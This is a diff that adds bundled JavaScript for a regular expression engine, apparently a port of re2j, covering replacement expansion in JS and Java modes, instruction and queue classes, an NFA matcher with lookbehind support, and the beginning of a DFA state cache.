+  * most recent match, and then the replacement with submatch groups substituted for references to
+  * them. It advances the append position to where the most recent match ended.
+  *
+  * By default the replacement is expanded as by String.prototype.replace (see
+  * appendReplacementInternalJs). In Java mode it follows re2j / java.util.regex: $n takes as
+  * many digits as still form a valid group number, ${name} is a named group, and a backslash
+  * escapes the next character (so "\\$" in a JS string literal inserts a literal $).
+  *
+  * @param {string} replacement the replacement string
+  * @param {boolean} [javaMode=false] activate java mode (different behaviour for capture groups and special characters)
+  * @returns {string}
+  * @throws IllegalStateException if there was no most recent match
+  * @throws IndexOutOfBoundsException in Java mode, if replacement refers to an invalid group
+  * @private
+  */
+  appendReplacement(replacement, javaMode = false) {
+    let res = "";
+    const s = this.start();
+    const e = this.end();
+    if (this.appendPos < s) res += this.substring(this.appendPos, s);
+    this.appendPos = e;
+    res += javaMode ? this.appendReplacementInternalJava(replacement) : this.appendReplacementInternalJs(replacement);
+    return res;
+  }
+  /**
+  * @param {string} replacement - the replacement string
+  * @returns {string}
+  * @private
+  */
+  appendReplacementInternalJava(replacement) {
+    let res = "";
+    let last = 0;
+    const m = replacement.length;
+    let i = 0;
+    while (i < m) {
+      const cCode = replacement.codePointAt(i);
+      if (cCode === Codepoint.CODES["\\"]) {
+        if (last < i) res += replacement.substring(last, i);
+        i++;
+        if (i >= m) throw new RE2JSGroupException("character to be escaped is missing");
+        last = i;
+        i++;
+        continue;
+      }
+      if (cCode === Codepoint.CODES["$"]) {
+        if (last < i) res += replacement.substring(last, i);
+        if (i + 1 >= m) throw new RE2JSGroupException("Illegal group reference: group index is missing");
+        const nextCode = replacement.codePointAt(i + 1);
+        if (Codepoint.CODES["0"] <= nextCode && nextCode <= Codepoint.CODES["9"]) {
+          let n = nextCode - Codepoint.CODES["0"];
+          let j = i + 2;
+          for (; j < m; j++) {
+            const digit = replacement.codePointAt(j);
+            if (digit < Codepoint.CODES["0"] || digit > Codepoint.CODES["9"] || n * 10 + digit - Codepoint.CODES["0"] > this.patternGroupCount) break;
+            n = n * 10 + digit - Codepoint.CODES["0"];
+          }
+          if (n > this.patternGroupCount) throw new RE2JSGroupException(`n > number of groups: ${n}`);
+          const group = this.group(n);
+          if (group !== null) res += group;
+          i = j;
+          last = i;
+        } else if (nextCode === Codepoint.CODES["{"]) {
+          let j = i + 2;
+          while (j < m && replacement.codePointAt(j) !== Codepoint.CODES["}"]) j++;
+          if (j >= m) throw new RE2JSGroupException("named capture group is missing trailing '}'");
+          const groupName = replacement.substring(i + 2, j);
+          const groupVal = this.group(groupName);
+          if (groupVal !== null) res += groupVal;
+          i = j + 1;
+          last = i;
+        } else throw new RE2JSGroupException("Illegal group reference");
+        continue;
+      }
+      i++;
+    }
+    if (last < m) res += replacement.substring(last, m);
+    return res;
+  }
+  /**
+  * Expands |replacement| for the current match by the rules of String.prototype.replace
+  * (ECMAScript GetSubstitution): $$ is "$", $& the match, $` the text before it, $' the text
+  * after it, $n and $nn a group (two digits only when they form a valid group number, so with
+  * one group "$10" is group 1 then "0"; an unmatched group is empty), and $<name> a named group
+  * (empty when no such group), only when the pattern has named groups. Anything else, such as
+  * "$0" or "$<" without a closing ">", is kept as is.
+  * @param {string} replacement - the replacement string
+  * @returns {string}
+  * @private
+  */
+  appendReplacementInternalJs(replacement) {
+    const isDigit = (c) => c >= 48 && c <= 57;
+    const groupCount = this.patternGroupCount;
+    let res = "";
+    let i = 0;
+    while (i < replacement.length) {
+      const dollar = replacement.indexOf("$", i);
+      if (dollar < 0) break;
+      res += replacement.substring(i, dollar);
+      i = dollar;
+      const c = replacement.charCodeAt(i + 1);
+      if (c === Codepoint.CODES["$"]) {
+        res += "$";
+        i += 2;
+      } else if (c === Codepoint.CODES["&"]) {
+        res += this.group(0);
+        i += 2;
+      } else if (c === Codepoint.CODES["`"]) {
+        res += this.substring(0, this.start(0));
+        i += 2;
+      } else if (c === Codepoint.CODES["'"]) {
+        res += this.substring(this.end(0), this.matcherInputLength);
+        i += 2;
+      } else if (isDigit(c)) {
+        let digits = 1;
+        let index = c - 48;
+        const c2 = replacement.charCodeAt(i + 2);
+        if (isDigit(c2) && index * 10 + c2 - 48 <= groupCount) {
+          digits = 2;
+          index = index * 10 + c2 - 48;
+        }
+        if (index >= 1 && index <= groupCount) {
+          const group = this.group(index);
+          if (group !== null) res += group;
+        } else res += replacement.substring(i, i + 1 + digits);
+        i += 1 + digits;
+      } else if (c === Codepoint.CODES["<"] && this.hasNamedGroups) {
+        const gt = replacement.indexOf(">", i + 2);
+        if (gt < 0) {
+          res += "$<";
+          i += 2;
+        } else {
+          const name = replacement.substring(i + 2, gt);
+          if (Object.hasOwn(this.namedGroups, name)) {
+            const group = this.group(name);
+            if (group !== null) res += group;
+          }
+          i = gt + 1;
+        }
+      } else {
+        res += "$";
+        i += 1;
+      }
+    }
+    return res + replacement.substring(i);
+  }
+  /**
+  * Return the substring of the input from the append position to the end of the
+  * input.
+  * @returns {string}
+  */
+  appendTail() {
+    return this.substring(this.appendPos, this.matcherInputLength);
+  }
+  /**
+  * Returns the input with all matches replaced by {@code replacement}, interpreted as for
+  * {@code appendReplacement}.
+  *
+  * @param {string|((...args: any[]) => string)} replacement - the replacement string or a replacer function
+  * @param {boolean} [javaMode=false] - activate java mode (different behaviour for capture groups and special characters)
+  * @returns {string} the input string with the matches replaced
+  * @throws IndexOutOfBoundsException if replacement refers to an invalid group and javaMode is true
+  */
+  replaceAll(replacement, javaMode = false) {
+    return this.replace(replacement, true, javaMode);
+  }
+  /**
+  * Returns the input with the first match replaced by {@code replacement}, interpreted as for
+  * {@code appendReplacement}.
+  *
+  * @param {string|((...args: any[]) => string)} replacement - the replacement string or a replacer function
+  * @param {boolean} [javaMode=false] - activate java mode (different behaviour for capture groups and special characters)
+  * @returns {string} the input string with the first match replaced
+  * @throws IndexOutOfBoundsException if replacement refers to an invalid group and javaMode is true
+  */
+  replaceFirst(replacement, javaMode = false) {
+    return this.replace(replacement, false, javaMode);
+  }
+  /**
+  * Helper: replaceAll/replaceFirst hybrid.
+  * @param {string|((...args: any[]) => string)} replacement - the replacement string or a replacer function
+  * @param {boolean} [all=true] - replace all matches
+  * @param {boolean} [javaMode=false] - activate java mode (different behaviour for capture groups and special characters)
+  * @returns {string}
+  * @private
+  */
+  replace(replacement, all = true, javaMode = false) {
+    let res = "";
+    this.reset();
+    const isFunc = typeof replacement === "function";
+    let originalInput = null;
+    if (isFunc) {
+      if (this.groupCount() >= Matcher2.MAX_REPLACER_ARGS) throw new RE2JSGroupException("Too many capture groups to safely invoke replacer function");
+      originalInput = this.matcherInput.isUTF8Encoding() ? this.matcherInput.asBytes() : this.matcherInput.asCharSequence();
+    }
+    while (this.find()) {
+      res += isFunc ? this.appendReplacementFunc(replacement, originalInput) : this.appendReplacement(replacement, javaMode);
+      if (!all) break;
+    }
+    res += this.appendTail();
+    return res;
+  }
+  /**
+  * Evaluates a replacer function for the current match and appends the result,
+  * along with any un-matched preceding text, advancing the append position.
+  * @param {Function} replacer - the replacer function
+  * @param {string|Uint8Array|number[]} originalInput - the cached original input reference
+  * @returns {string} the evaluated string to append
+  * @private
+  */
+  appendReplacementFunc(replacer, originalInput) {
+    let res = "";
+    const s = this.start();
+    const e = this.end();
+    if (this.appendPos < s) res += this.substring(this.appendPos, s);
+    this.appendPos = e;
+    const args = this.matchArray();
+    args.push(s, originalInput);
+    if (this.hasNamedGroups) args.push(this.namedGroupsObject());
+    res += String(replacer(...args));
+    return res;
+  }
+  /**
+  * The match and its groups, as the elements of a JS RegExpExecArray: undefined for a group that
+  * did not take part in the match. Used by exec(), matchAll() and replacer functions.
+  * @returns {Array<string|undefined>}
+  * @private
+  */
+  matchArray() {
+    const result = [this.group(0)];
+    for (let i = 1; i <= this.patternGroupCount; i++) {
+      const group = this.group(i);
+      result.push(group === null ? void 0 : group);
+    }
+    return result;
+  }
+  /**
+  * The named groups, as the groups property of a JS RegExpExecArray: an object without a
+  * prototype mapping each name to its group (undefined when it did not take part in the match),
+  * or undefined when the pattern has no named groups.
+  * @returns {Record<string, string|undefined>|undefined}
+  * @private
+  */
+  namedGroupsObject() {
+    if (!this.hasNamedGroups) return;
+    const result = this.getNamedGroups();
+    for (const name in result) if (result[name] === null) result[name] = void 0;
+    return result;
+  }
+};
+var Inst = class Inst2 {
+  static ALT = 1;
+  static ALT_MATCH = 2;
+  static CAPTURE = 3;
+  static EMPTY_WIDTH = 4;
+  static FAIL = 5;
+  static MATCH = 6;
+  static NOP = 7;
+  static RUNE = 8;
+  static RUNE1 = 9;
+  static RUNE_ANY = 10;
+  static RUNE_ANY_NOT_NL = 11;
+  static LB_WRITE = 12;
+  static LB_CHECK = 13;
+  static isRuneOp(op) {
+    return Inst2.RUNE <= op && op <= Inst2.RUNE_ANY_NOT_NL;
+  }
+  static escapeRunes(runes) {
+    let out = '"';
+    for (let rune of runes) out += Utils.escapeRune(rune);
+    out += '"';
+    return out;
+  }
+  constructor(op) {
+    this.op = op;
+    this.out = 0;
+    this.arg = 0;
+    this.runes = /* @__PURE__ */ new Int32Array(0);
+    this.next = null;
+  }
+  matchRune(r) {
+    if (this.runes.length === 1) {
+      const r0 = this.runes[0];
+      if ((this.arg & RE2Flags.FOLD_CASE) !== 0) return Unicode.equalsIgnoreCase(r0, r);
+      return r === r0;
+    }
+    const len = this.runes.length;
+    if (len === 0) return false;
+    if (len === 2 || len === 4 || len === 6 || len === 8) {
+      for (let j = 0; j < len; j += 2) {
+        if (r < this.runes[j]) return false;
+        if (r <= this.runes[j + 1]) return true;
+      }
+      return false;
+    }
+    let base = 0;
+    let n = len >> 1;
+    while (n > 1) {
+      const half = n >> 1;
+      base += this.runes[base + half << 1] <= r ? half : 0;
+      n -= half;
+    }
+    base += this.runes[base << 1] <= r ? 1 : 0;
+    const m = base - 1;
+    return m >= 0 && r <= this.runes[m << 1 | 1];
+  }
+  matchRunePos(r) {
+    if (this.runes.length === 1) {
+      const r0 = this.runes[0];
+      if ((this.arg & RE2Flags.FOLD_CASE) !== 0) return Unicode.equalsIgnoreCase(r0, r) ? 0 : -1;
+      return r === r0 ? 0 : -1;
+    }
+    const len = this.runes.length;
+    if (len === 0) return -1;
+    if (len === 2 || len === 4 || len === 6 || len === 8) {
+      for (let j = 0; j < len; j += 2) {
+        if (r < this.runes[j]) return -1;
+        if (r <= this.runes[j + 1]) return Math.floor(j / 2);
+      }
+      return -1;
+    }
+    let base = 0;
+    let n = len >> 1;
+    while (n > 1) {
+      const half = n >> 1;
+      base += this.runes[base + half << 1] <= r ? half : 0;
+      n -= half;
+    }
+    base += this.runes[base << 1] <= r ? 1 : 0;
+    const m = base - 1;
+    return m >= 0 && r <= this.runes[m << 1 | 1] ? m : -1;
+  }
+  /**
+  *
+  * @returns {string}
+  */
+  toString() {
+    switch (this.op) {
+      case Inst2.ALT:
+        return `alt -> ${this.out}, ${this.arg}`;
+      case Inst2.ALT_MATCH:
+        return `altmatch -> ${this.out}, ${this.arg}`;
+      case Inst2.CAPTURE:
+        return `cap ${this.arg} -> ${this.out}`;
+      case Inst2.EMPTY_WIDTH:
+        return `empty ${this.arg} -> ${this.out}`;
+      case Inst2.MATCH:
+        return `match${this.arg !== 0 ? ` ${this.arg}` : ""}`;
+      case Inst2.FAIL:
+        return "fail";
+      case Inst2.NOP:
+        return `nop -> ${this.out}`;
+      case Inst2.LB_WRITE:
+        return `lbwrite ${this.arg} -> ${this.out}`;
+      case Inst2.LB_CHECK:
+        return `lbcheck ${this.arg} -> ${this.out}`;
+      case Inst2.RUNE:
+        if (this.runes === null) return "rune <null>";
+        return [
+          "rune ",
+          Inst2.escapeRunes(this.runes),
+          (this.arg & RE2Flags.FOLD_CASE) !== 0 ? "/i" : "",
+          " -> ",
+          this.out
+        ].join("");
+      case Inst2.RUNE1:
+        return `rune1 ${Inst2.escapeRunes(this.runes)} -> ${this.out}`;
+      case Inst2.RUNE_ANY:
+        return `any -> ${this.out}`;
+      case Inst2.RUNE_ANY_NOT_NL:
+        return `anynotnl -> ${this.out}`;
+      default:
+        throw new Error("unhandled case in Inst.toString");
+    }
+  }
+};
+var Queue = class Queue2 {
+  constructor(numInst) {
+    this.sparse = new Int32Array(numInst);
+    this.densePcs = new Int32Array(numInst);
+    this.denseCaps = null;
+    this.size = 0;
+    this.ncap = 0;
+    this.mainThreads = 0;
+  }
+  static INITIAL_THREADS = 32;
+  init(ncap) {
+    this.ncap = ncap;
+    const needed = Math.min(this.densePcs.length, Queue2.INITIAL_THREADS) * ncap;
+    if (!this.denseCaps || this.denseCaps.length < needed) this.denseCaps = new Int32Array(needed);
+  }
+  growCaps(needed) {
+    const limit = this.densePcs.length * this.ncap;
+    const grown = new Int32Array(Math.min(limit, Math.max(needed, 2 * this.denseCaps.length)));
+    grown.set(this.denseCaps);
+    this.denseCaps = grown;
+  }
+  contains(pc) {
+    const j = this.sparse[pc];
+    return j < this.size && this.densePcs[j] === pc;
+  }
+  isEmpty() {
+    return this.size === 0;
+  }
+  add(pc) {
+    const j = this.size++;
+    this.sparse[pc] = j;
+    this.densePcs[j] = pc;
+    return j;
+  }
+  clear() {
+    this.size = 0;
+    this.mainThreads = 0;
+  }
+  toString() {
+    let out = "{";
+    for (let i = 0; i < this.size; i++) {
+      if (i !== 0) out += ", ";
+      out += this.densePcs[i];
+    }
+    out += "}";
+    return out;
+  }
+};
+var LookbehindState = class {
+  constructor(prog) {
+    this.pos = -1;
+    this.pcs = new Int32Array(prog.numInst());
+    this.size = 0;
+    this.lbTable = new Int32Array(prog.numLb + 1);
+  }
+  reset() {
+    this.pos = -1;
+    this.size = 0;
+  }
+};
+var Machine = class Machine2 {
+  static fromRE2(re2) {
+    const m = new Machine2();
+    m.prog = re2.prog;
+    m.re2 = re2;
+    m.q0 = new Queue(m.prog.numInst());
+    m.q1 = new Queue(m.prog.numInst());
+    m.addStack = new Int32Array(2 * (m.prog.numInst() + 1));
+    m.matched = false;
+    m.matchcap = new Int32Array(m.prog.numCap < 2 ? 2 : m.prog.numCap);
+    m.ncap = 0;
+    return m;
+  }
+  constructor() {
+    this.prog = null;
+    this.re2 = null;
+    this.q0 = null;
+    this.q1 = null;
+    this.addStack = null;
+    this.matched = false;
+    this.matchcap = null;
+    this.ncap = 0;
+    this.lbTable = null;
+  }
+  init(ncap) {
+    this.ncap = ncap;
+    if (ncap > this.matchcap.length) this.matchcap = new Int32Array(ncap).fill(-1);
+    else this.matchcap.fill(-1);
+    this.q0.init(ncap);
+    this.q1.init(ncap);
+    if (this.prog.numLb > 0) {
+      if (!this.lbTable || this.lbTable.length < this.prog.numLb + 1) this.lbTable = new Int32Array(this.prog.numLb + 1);
+      this.lbTable.fill(-1);
+    }
+  }
+  submatches() {
+    if (this.ncap === 0) return Utils.emptyInts();
+    return Utils.toArray(this.matchcap.subarray(0, this.ncap));
+  }
+  match(input, pos, anchor2, lbState = null) {
+    const startCond = this.re2.cond;
+    if (startCond === Utils.EMPTY_ALL) return false;
+    if ((anchor2 === RE2Flags.ANCHOR_START || anchor2 === RE2Flags.ANCHOR_BOTH) && pos !== 0) return false;
+    this.matched = false;
+    this.matchcap.fill(-1);
+    const hasLookbehinds = this.prog.numLb > 0;
+    const matchStartPos = pos;
+    let currentPos = pos;
+    let resumeLookbehinds = false;
+    if (hasLookbehinds) {
+      if (lbState !== null && lbState.pos >= 0 && lbState.pos <= pos) {
+        currentPos = lbState.pos;
+        resumeLookbehinds = true;
+      } else currentPos = 0;
+    }
+    let saveLookbehinds = hasLookbehinds && lbState !== null;
+    let runq = this.q0;
+    let nextq = this.q1;
+    let r = input.step(currentPos);
+    let rune = r >> 3;
+    let width = r & 7;
+    let rune1 = -1;
+    let width1 = 0;
+    if (r !== MachineInputBase.EOF()) {
+      r = input.step(currentPos + width);
+      rune1 = r >> 3;
+      width1 = r & 7;
+    }
+    let flag;
+    if (currentPos === 0) flag = Utils.emptyOpContext(-1, rune);
+    else flag = input.context(currentPos);
+    if (hasLookbehinds) {
+      if (resumeLookbehinds) this.restoreLookbehinds(lbState, runq, flag);
+      else this.spawnLookbehinds(runq, currentPos, flag);
+    }
+    while (true) {
+      if (runq.mainThreads === 0) {
+        if ((startCond & Utils.EMPTY_BEGIN_TEXT) !== 0 && currentPos !== 0) break;
+        if ((anchor2 === RE2Flags.ANCHOR_START || anchor2 === RE2Flags.ANCHOR_BOTH) && currentPos !== 0) break;
+        if (this.matched) break;
+        if (this.prog.numLb === 0 && runq.isEmpty() && !(this.re2.prefix.length === 0) && rune1 !== this.re2.prefixRune && input.canCheckPrefix()) {
+          const advance = input.index(this.re2, currentPos);
+          if (advance < 0) break;
+          currentPos += advance;
+          r = input.step(currentPos);
+          rune = r >> 3;
+          width = r & 7;
+          r = input.step(currentPos + width);
+          rune1 = r >> 3;
+          width1 = r & 7;
+          flag = input.context(currentPos);
+        }
+      }
+      if (currentPos >= matchStartPos) {
+        if (saveLookbehinds) {
+          this.saveLookbehinds(lbState, runq, currentPos);
+          saveLookbehinds = false;
+        }
+        if (!this.matched && (currentPos === 0 || anchor2 === RE2Flags.UNANCHORED)) {
+          if (this.ncap > 0) this.matchcap[0] = currentPos;
+          this.add(runq, this.prog.start, currentPos, this.matchcap, 0, flag);
+        }
+      }
+      const nextPos = currentPos + width;
+      flag = input.context(nextPos);
+      this.step(runq, nextq, currentPos, nextPos, rune, flag, anchor2, currentPos === input.endPos());
+      if (width === 0) break;
+      if (this.ncap === 0 && this.matched) break;
+      currentPos += width;
+      rune = rune1;
+      width = width1;
+      if (rune !== -1) {
+        r = input.step(currentPos + width);
+        rune1 = r >> 3;
+        width1 = r & 7;
+      }
+      const tmpq = runq;
+      runq = nextq;
+      nextq = tmpq;
+    }
+    runq.clear();
+    nextq.clear();
+    return this.matched;
+  }
+  matchSet(input, pos, anchor2) {
+    const startCond = this.re2.cond;
+    if (startCond === Utils.EMPTY_ALL) return [];
+    if ((anchor2 === RE2Flags.ANCHOR_START || anchor2 === RE2Flags.ANCHOR_BOTH) && pos !== 0) return [];
+    let currentPos = this.prog.numLb > 0 ? 0 : pos;
+    let matchStartPos = pos;
+    let runq = this.q0;
+    let nextq = this.q1;
+    let r = input.step(currentPos);
+    let rune = r >> 3;
+    let width = r & 7;
+    let rune1 = -1;
+    let width1 = 0;
+    if (r !== MachineInputBase.EOF()) {
+      r = input.step(currentPos + width);
+      rune1 = r >> 3;
+      width1 = r & 7;
+    }
+    let flag = currentPos === 0 ? Utils.emptyOpContext(-1, rune) : input.context(currentPos);
+    const matches3 = /* @__PURE__ */ new Set();
+    if (this.prog.numLb > 0) this.spawnLookbehinds(runq, currentPos, flag);
+    while (true) {
+      if (runq.mainThreads === 0) {
+        if ((startCond & Utils.EMPTY_BEGIN_TEXT) !== 0 && currentPos !== 0) break;
+        if ((anchor2 === RE2Flags.ANCHOR_START || anchor2 === RE2Flags.ANCHOR_BOTH) && currentPos !== 0) break;
+      }
+      if (currentPos === 0 || anchor2 === RE2Flags.UNANCHORED) {
+        if (currentPos >= matchStartPos) this.add(runq, this.prog.start, currentPos, this.matchcap, 0, flag);
+      }
+      const nextPos = currentPos + width;
+      flag = input.context(nextPos);
+      for (let j = 0; j < runq.size; j++) {
+        const pc = runq.densePcs[j];
+        const i = this.prog.inst[pc];
+        const capOffset = j * this.ncap;
+        let add = false;
+        switch (i.op) {
+          case Inst.MATCH:
+            if (anchor2 === RE2Flags.ANCHOR_BOTH && currentPos !== input.endPos()) break;
+            matches3.add(i.arg);
+            break;
+          case Inst.RUNE:
+            add = i.matchRune(rune);
+            break;
+          case Inst.RUNE1:
+            add = rune === i.runes[0];
+            break;
+          case Inst.RUNE_ANY:
+            add = true;
+            break;
+          case Inst.RUNE_ANY_NOT_NL:
+            add = rune !== 10;
+            break;
+          default:
+            continue;
+        }
+        if (add) this.add(nextq, i.out, nextPos, runq.denseCaps, capOffset, flag);
+      }
+      runq.clear();
+      if (width === 0) break;
+      currentPos += width;
+      rune = rune1;
+      width = width1;
+      if (rune !== -1) {
+        r = input.step(currentPos + width);
+        rune1 = r >> 3;
+        width1 = r & 7;
+      }
+      const tmpq = runq;
+      runq = nextq;
+      nextq = tmpq;
+    }
+    nextq.clear();
+    return Array.from(matches3).sort((a, b) => a - b);
+  }
+  step(runq, nextq, pos, nextPos, c, nextCond, anchor2, atEnd) {
+    const longest = this.re2.longest;
+    for (let j = 0; j < runq.size; j++) {
+      const pc = runq.densePcs[j];
+      const capOffset = j * this.ncap;
+      if (longest && this.matched && this.ncap > 0 && this.matchcap[0] < runq.denseCaps[capOffset]) continue;
+      const i = this.prog.inst[pc];
+      let add = false;
+      switch (i.op) {
+        case Inst.MATCH:
+          if (anchor2 === RE2Flags.ANCHOR_BOTH && !atEnd) break;
+          if (this.ncap > 0 && (!longest || !this.matched || this.matchcap[1] < pos)) {
+            runq.denseCaps[capOffset + 1] = pos;
+            for (let k = 0; k < this.ncap; k++) this.matchcap[k] = runq.denseCaps[capOffset + k];
+          }
+          if (!longest) runq.size = 0;
+          this.matched = true;
+          break;
+        case Inst.RUNE:
+          add = i.matchRune(c);
+          break;
+        case Inst.RUNE1:
+          add = c === i.runes[0];
+          break;
+        case Inst.RUNE_ANY:
+          add = true;
+          break;
+        case Inst.RUNE_ANY_NOT_NL:
+          add = c !== 10;
+          break;
+        default:
+          continue;
+      }
+      if (add) this.add(nextq, i.out, nextPos, runq.denseCaps, capOffset, nextCond);
+    }
+    runq.clear();
+  }
+  spawnLookbehinds(q, pos, flag) {
+    for (let i = 0; i < this.prog.lbStarts.length; i++) this.add(q, this.prog.lbStarts[i], pos, this.matchcap, 0, flag);
+  }
+  restoreLookbehinds(lbState, q, flag) {
+    this.lbTable.set(lbState.lbTable);
+    for (let j = 0; j < lbState.size; j++) this.add(q, lbState.pcs[j], lbState.pos, this.matchcap, 0, flag);
+  }
+  saveLookbehinds(lbState, q, pos) {
+    let size = 0;
+    for (let j = 0; j < q.size; j++) {
+      const pc = q.densePcs[j];
+      if (this.prog.lbInst[pc] === 1 && Inst.isRuneOp(this.prog.inst[pc].op)) lbState.pcs[size++] = pc;
+    }
+    lbState.size = size;
+    lbState.pos = pos;
+    lbState.lbTable.set(this.lbTable);
+  }
+  add(q, pc, pos, capArray, capOffset, cond) {
+    const stk = this.addStack;
+    let nstk = 0;
+    for (; ; ) {
+      while (pc !== 0 && !q.contains(pc)) {
+        const d = q.add(pc);
+        const inst = this.prog.inst[pc];
+        switch (inst.op) {
+          case Inst.FAIL:
+            pc = 0;
+            break;
+          case Inst.ALT:
+          case Inst.ALT_MATCH:
+            stk[nstk++] = inst.arg;
+            stk[nstk++] = 0;
+            pc = inst.out;
+            break;
+          case Inst.EMPTY_WIDTH:
+            pc = (inst.arg & ~cond) === 0 ? inst.out : 0;
+            break;
+          case Inst.NOP:
+            pc = inst.out;
+            break;
+          case Inst.CAPTURE:
+            if (inst.arg < this.ncap) {
+              stk[nstk++] = -inst.arg - 1;
+              stk[nstk++] = capArray[capOffset + inst.arg];
+              capArray[capOffset + inst.arg] = pos;
+            }
+            pc = inst.out;
+            break;
+          case Inst.LB_WRITE:
+            this.lbTable[Math.abs(inst.arg)] = pos;
+            pc = inst.out;
+            break;
+          case Inst.LB_CHECK:
+            if (inst.arg > 0) pc = this.lbTable[inst.arg] === pos ? inst.out : 0;
+            else pc = this.lbTable[-inst.arg] !== pos ? inst.out : 0;
+            break;
+          case Inst.MATCH:
+          case Inst.RUNE:
+          case Inst.RUNE1:
+          case Inst.RUNE_ANY:
+          case Inst.RUNE_ANY_NOT_NL:
+            if (this.prog.lbInst[pc] === 0) q.mainThreads++;
+            if (this.ncap > 0) {
+              const destOffset = d * this.ncap;
+              if (destOffset + this.ncap > q.denseCaps.length) q.growCaps(destOffset + this.ncap);
+              for (let c = 0; c < this.ncap; c++) q.denseCaps[destOffset + c] = capArray[capOffset + c];
+            }
+            pc = 0;
+            break;
+          default:
+            throw new RE2JSInternalException("unhandled");
+        }
+      }
+      if (nstk === 0) return;
+      nstk -= 2;
+      const entry = stk[nstk];
+      if (entry < 0) {
+        capArray[capOffset - entry - 1] = stk[nstk + 1];
+        pc = 0;
+      } else pc = entry;
+    }
+  }
+};
+var hashState = (pcs, flag, ids) => {
+  let h = -2128831035;
+  for (let i = 0; i < pcs.length; i++) {
+    h ^= pcs[i];
+    h = Math.imul(h, 16777619);
+  }
+  h ^= flag;
+  h = Math.imul(h, 16777619);
+  for (let i = 0; i < ids.length; i++) {
+    h ^= ids[i];
+    h = Math.imul(h, 16777619);
+  }
+  return h;
+};
+var arraysEqual = (a, b) => {
+  if (a.length !== b.length) return false;
+  for (let i = 0; i < a.length; i++) if (a[i] !== b[i]) return false;
+  return true;
+};
+var isState = (state, pcs, flag, ids) => state.flag === flag && arraysEqual(state.nfaStates, pcs) && arraysEqual(state.matchIDs, ids);
+var NO_IDS = [];
+var END_TEXT = -1;
+var DFAState = class {
+  constructor(nfaStates, flag, matchIDs) {
+    this.nfaStates = nfaStates;
+    this.flag = flag;
+    this.isMatch = (flag & DFA.FLAG_MATCH) !== 0;
+    this.matchIDs = matchIDs;
+    this.next = null;
+    this.nextAnchored = null;
+  }
+};
+var DFA = class DFA2 {
+  static FLAG_EMPTY_MASK = 255;
+  static FLAG_MATCH = 256;
+  static FLAG_LAST_WORD = 512;
+  static FLAG_NEED_SHIFT = 16;
+  static STATE_OVERHEAD = 150;
+  static ARRAY_OVERHEAD = 40;
+  static ELEMENT_SIZE = 8;
+  static TABLE_OVERHEAD = 48;
+  static PROGRESS_PER_STATE = 10;
+  constructor(prog, maxMem = 8388608) {
+    this.prog = prog;
+    this.maxMem = maxMem;
+    this.stateCache = /* @__PURE__ */ new Map();
+    this.stateCount = 0;
+    this.startStates = /* @__PURE__ */ new Map();
+    this.failed = false;
+    for (let pc = 0; pc < prog.numInst(); pc++) {
+      const op = prog.getInst(pc).op;
+      if (op === Inst.LB_WRITE || op === Inst.LB_CHECK) {
+        this.failed = true;
+        break;
+      }
+    }
+    this.computeRuneClasses();
+    this.stateBudget = maxMem;
+    this.memBudget = maxMem;
+  }
+  computeRuneClasses() {
+    const bounds = /* @__PURE__ */ new Set();
+    const addRange = (lo, hi) => {
+      bounds.add(lo);
+      bounds.add(hi + 1);
+    };
+    for (let pc = 0; pc < this.prog.numInst(); pc++) {
+      const inst = this.prog.getInst(pc);
+      switch (inst.op) {
+        case Inst.RUNE:
+        case Inst.RUNE1:
+          if (inst.runes.length === 1) {
+            addRange(inst.runes[0], inst.runes[0]);
+            if ((inst.arg & RE2Flags.FOLD_CASE) !== 0) for (let f = Unicode.simpleFold(inst.runes[0]); f !== inst.runes[0]; f = Unicode.simpleFold(f)) addRange(f, f);
+          } else for (let j = 0; j < inst.runes.length; j += 2) addRange(inst.runes[j], inst.runes[j + 1]);
+          break;
+        case Inst.RUNE_ANY_NOT_NL:
+          addRange(10, 10);
+          break;
+        case Inst.EMPTY_WIDTH:
+          if ((inst.arg & (Utils.EMPTY_BEGIN_LINE | Utils.EMPTY_END_LINE)) !== 0) addRange(10, 10);
+          if ((inst.arg & (Utils.EMPTY_WORD_BOUNDARY | Utils.EMPTY_NO_WORD_BOUNDARY)) !== 0) {
+            addRange(48, 57);
+            addRange(65, 90);
+            addRange(95, 95);
+            addRange(97, 122);
+          }
+      }
+    }
+    bounds.delete(0);
+    this.classBounds = Int32Array.from(bounds).sort();
+    this.numClasses = this.classBounds.length + 1;
+    const latin1Class = new Int32Array(Unicode.MAX_LATIN1 + 1);
+    for (let r = 0; r <= Unicode.MAX_LATIN1; r++) latin1Class[r] = this.searchClass(r);
+    this.latin1Class = latin1Class;
+  }
+  runeClass(r) {
+    if (r <= Unicode.MAX_LATIN1) return this.latin1Class[r];
+    return this.searchClass(r);
+  }
+  searchClass(r) {
+    const bounds = this.classBounds;
+    let lo = 0;
+    let hi = bounds.length;
+    while (lo < hi) {
+      const mid = lo + hi >> 1;
+      if (bounds[mid] <= r) lo = mid + 1;
+      else hi = mid;
+    }
+    return lo;
+  }
+  closure(pcs, flag) {
+    const closure = /* @__PURE__ */ new Set();
+    const stack = Array.from(pcs);
+    let needflags = 0;
+    while (stack.length > 0) {
+      const pc = stack.pop();
+      if (pc === 0 || closure.has(pc)) continue;
+      closure.add(pc);
+      const inst = this.prog.getInst(pc);
+      switch (inst.op) {
+        case Inst.ALT:
+        case Inst.ALT_MATCH:
+          stack.push(inst.out);
+          stack.push(inst.arg);
+          break;
+        case Inst.NOP:
+        case Inst.CAPTURE:
+          stack.push(inst.out);
+          break;
+        case Inst.EMPTY_WIDTH:
+          needflags |= inst.arg;
+          if ((inst.arg & ~flag) === 0) stack.push(inst.out);
+      }
+    }
+    return {
+      pcs: Array.from(closure).sort((a, b) => a - b),
+      needflags
+    };
+  }
+  getState(pcs, flag, ids) {
+    const hash = hashState(pcs, flag, ids);
+    const cached2 = this.stateCache.get(hash);
+    if (cached2 instanceof DFAState) {
+      if (isState(cached2, pcs, flag, ids)) return cached2;
+    } else if (cached2 !== void 0) {
+      for (let i = 0; i < cached2.length; i++) if (isState(cached2[i], pcs, flag, ids)) return cached2[i];
+    }
+    const cost = DFA2.stateCost(pcs, ids);
+    if (this.memBudget < cost) return null;
+    this.memBudget -= cost;
+    const state = new DFAState(pcs, flag, ids);
+    if (cached2 === void 0) this.stateCache.set(hash, state);
+    else if (cached2 instanceof DFAState) this.stateCache.set(hash, [cached2, state]);
+    else cached2.push(state);
+    this.stateCount++;
+    return state;
+  }
+  static stateCost(pcs, ids) {
+    const idsCost = ids.length === 0 ? 0 : DFA2.ARRAY_OVERHEAD + DFA2.ELEMENT_SIZE * ids.length;
+    return DFA2.STATE_OVERHEAD + DFA2.ELEMENT_SIZE * pcs.length + idsCost;
+  }
